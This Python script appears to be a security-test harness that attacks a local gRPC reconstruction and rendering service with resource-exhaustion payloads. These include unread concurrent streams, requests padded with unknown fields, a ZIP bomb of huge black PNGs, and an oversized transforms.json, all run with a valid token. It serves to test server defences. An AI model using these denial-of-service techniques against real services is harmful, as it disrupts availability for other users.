"""Attacks of somebody with a token, through gRPC as any client has it.

    with_token.py KIND PORT --token TOKEN --job JOB [--seconds S]

JOB is finished, and the attacker's own. What the server refuses is tried again. Ends with an error if
it never took anything: then there was no attack.
"""

import argparse
import contextlib
import hashlib
import io
import sys
import threading
import time
import zipfile
import zlib

import grpc

import harness
from harness import rpc
from litags.v1 import model_service_pb2 as model
from litags.v1 import render_service_pb2 as render

STREAMS = 50  # at a time, of calls whose answers nobody reads
OPTIONS = [("grpc.enable_http_proxy", 0), ("grpc.use_local_subchannel_pool", 1),
           ("grpc.max_receive_message_length", -1)]


class Attacker:

    def __init__(self, args):
        self.args = args
        self.end = time.monotonic() + args.seconds
        self.taken = 0  # streams with an answer, or jobs for uploads
        self.metadata = [("authorization", f"Bearer {args.token}")]
        self.channel = grpc.insecure_channel(f"127.0.0.1:{args.port}", OPTIONS)
        self.jobs = harness.reconstruction_service_pb2_grpc.ReconstructionServiceStub(self.channel)
        self.pictures = harness.render_service_pb2_grpc.RenderServiceStub(self.channel)
        self.models = harness.model_service_pb2_grpc.ModelServiceStub(self.channel)

    def left(self):
        return self.end - time.monotonic()

    def unread(self, call, request, pause_s=0.2):
        """Streams that are opened and not read; those that end are opened anew."""
        first = call(request, metadata=self.metadata, timeout=harness.PATIENCE_S)
        next(first)
        first.cancel()
        self.taken += 1
        streams = []
        while self.left() > 0:
            streams = [stream for stream in streams if not stream.done()]
            while len(streams) < STREAMS:
                streams.append(call(request, metadata=self.metadata))
            time.sleep(pause_s)

    def watches(self):
        """Watches with previews that nobody reads."""
        self.unread(self.jobs.WatchJob, rpc.WatchJobRequest(name=self.args.job,
                                                            include_previews=True))

    def paths(self):
        """Pictures by the thousand that nobody reads."""
        self.unread(self.pictures.RenderPath, render.RenderPathRequest(
            name=self.args.job, orbit=render.Orbit(), frames=10000))

    def requests(self):
        """The same, with requests that are five times as large in memory as on the wire."""
        path = render.RenderPathRequest(name=self.args.job, orbit=render.Orbit(), frames=10000)
        grown = path.SerializeToString() + b"\xc0\x3e\x01" * 130_000  # fields that nobody knows
        try:
            self.unread(self.channel.unary_stream("/litags.v1.RenderService/RenderPath",
                                                  response_deserializer=bytes), grown, pause_s=1)
        except grpc.RpcError as error:
            # The attacker's paths may have all the room that one client has.
            self.taken += error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
            time.sleep(0.2)
            raise

    def exports(self):
        """Files that nobody reads."""
        self.unread(self.models.ExportModel, model.ExportModelRequest(name=self.args.job))

    def upload(self, name, role, data):
        """A file for a new job, which goes again."""
        with contextlib.suppress(grpc.RpcError):
            job = self.jobs.CreateJob(rpc.CreateJobRequest(), metadata=self.metadata,
                                      timeout=harness.PATIENCE_S).name
            self.taken += 1
            with contextlib.suppress(grpc.RpcError):
                self.jobs.UploadImages(self.messages(job, name, role, data),
                                       metadata=self.metadata, timeout=max(self.left(), 1))
            self.jobs.DeleteJob(rpc.DeleteJobRequest(name=job), metadata=self.metadata,
                                timeout=harness.PATIENCE_S)

    @staticmethod
    def messages(job, name, role, data):
        yield rpc.UploadImagesRequest(name=job)
        yield rpc.UploadImagesRequest(file=rpc.FileHeader(
            file_name=name, role=role, size_bytes=len(data), sha256=hashlib.sha256(data).digest()))
        for start in range(0, len(data), 1 << 20):
            yield rpc.UploadImagesRequest(chunk=data[start:start + (1 << 20)])
        yield rpc.UploadImagesRequest(end=rpc.UploadEnd(files=1))

    def again_and_again(self, name, role, data):
        def one():
            self.upload(name, role, data)  # once at least, however long it took to make the data
            while self.left() > 0:
                self.upload(name, role, data)
        threads = [threading.Thread(target=one) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def archives(self):
        """ZIPs of a few kilobytes with black photos of 8192 x 8192 pixels."""
        side = 8192
        black = harness.png_of(side, side, zlib.compress(bytes((side * 3 + 1) * side), 9))
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for i in range(100):
                archive.writestr(f"{i}.png", black)
        self.again_and_again("photos.zip", rpc.FILE_ROLE_ARCHIVE, packed.getvalue())

    def cameras(self):
        """A transforms.json of 15 MiB."""
        frame = b'{"file_path": "a.png", "transform_matrix": [[1,0,0,0],[0,1,0,0],[0,0,1,0],[0,0,0,1]]},'
        data = b'{"frames": [' + frame * (15 * (1 << 20) // len(frame)) + frame[:-1] + b"]}"
        self.again_and_again("transforms.json", rpc.FILE_ROLE_CAMERAS, data)


KINDS = ("watches", "paths", "requests", "exports", "archives", "cameras")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    parser.add_argument("--token", required=True)
    parser.add_argument("--job", required=True)
    parser.add_argument("--seconds", type=float, default=3)
    args = parser.parse_args()
    attacker = Attacker(args)
    while attacker.left() > 0:  # a connection may be cut
        with contextlib.suppress(grpc.RpcError):
            getattr(attacker, args.kind)()
    attacker.channel.close()
    print(f"{args.kind}: the server took {attacker.taken} of them")
    return 0 if attacker.taken else 1


if __name__ == "__main__":
    sys.exit(main())
